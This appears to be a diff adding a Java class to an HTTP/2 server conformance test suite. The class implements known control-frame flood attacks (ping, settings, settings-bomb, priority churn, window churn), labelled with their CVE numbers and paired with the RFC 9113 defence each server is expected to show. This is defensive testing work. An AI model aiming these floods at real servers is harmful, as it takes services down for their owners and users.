@@ -1,0 +1,73 @@
+package dev.gannet.conformance.gauntlet.attack;
+
+import dev.gannet.conformance.gauntlet.attack.Dossier.Fate;
+import dev.gannet.conformance.gauntlet.wire.Frames;
+import dev.gannet.conformance.gauntlet.wire.RawConnection;
+import dev.gannet.conformance.gauntlet.wire.Reading;
+import java.io.IOException;
+
+/** Frames of a few octets that each want an answer or a thought, sent without end. */
+enum ControlFlood implements Attack {
+  /** Each wants an answer that nobody reads. */
+  PING("ping-flood", Reading.NEVER, "2019-9512"),
+  /** The same, and each is to be applied. */
+  SETTINGS("settings-flood", Reading.NEVER, "2019-9515"),
+  /** All in one frame: thousands of settings. */
+  SETTINGS_BOMB("settings-bomb", Reading.EAGER, "2020-11080"),
+  /** A tree of priorities to be turned over and over. */
+  PRIORITY("priority-churn", Reading.EAGER, "2019-9513"),
+  /** Windows of all streams wider and narrower in turn. */
+  WINDOW_CHURN("window-churn", Reading.EAGER, "");
+
+  private static final int IDS = 1000;
+  private static final int BOMB_ENTRIES = 2700; // as many as 16 KiB hold
+  private static final int UNKNOWN_SETTING = 0xf000;
+
+  private final String name;
+  private final Reading reading;
+  private final String cve;
+
+  ControlFlood(String name, Reading reading, String cve) {
+    this.name = name;
+    this.reading = reading;
+    this.cve = cve;
+  }
+
+  @Override
+  public Dossier dossier() {
+    return new Dossier(
+            name,
+            "RFC 9113 §10.5",
+            Fate.CUT_OFF,
+            "counts them, and stops reading before unread answers pile up")
+        .published(cve);
+  }
+
+  @Override
+  public void attack(Front front) throws IOException {
+    RawConnection connection = front.connect(reading);
+    for (int i = 0; front.goesOn(connection); i++) {
+      connection.send(frame(i));
+    }
+  }
+
+  private byte[] frame(int i) {
+    return switch (this) {
+      case PING -> Frames.ping(i);
+      case SETTINGS -> Frames.settings();
+      case SETTINGS_BOMB -> bomb();
+      case PRIORITY -> Frames.priority(2 * (i % IDS) + 1, 2 * ((i * 31 + 7) % IDS) + 3, i & 0xff);
+      case WINDOW_CHURN ->
+          Frames.settings(Frames.INITIAL_WINDOW_SIZE, i % 2 == 0 ? Frames.LARGEST_WINDOW : 0);
+    };
+  }
+
+  private static byte[] bomb() {
+    int[] entries = new int[2 * BOMB_ENTRIES];
+    for (int i = 0; i < BOMB_ENTRIES; i++) {
+      entries[2 * i] = UNKNOWN_SETTING + i % IDS;
+      entries[2 * i + 1] = i;
+    }
+    return Frames.settings(entries);
+  }
+}
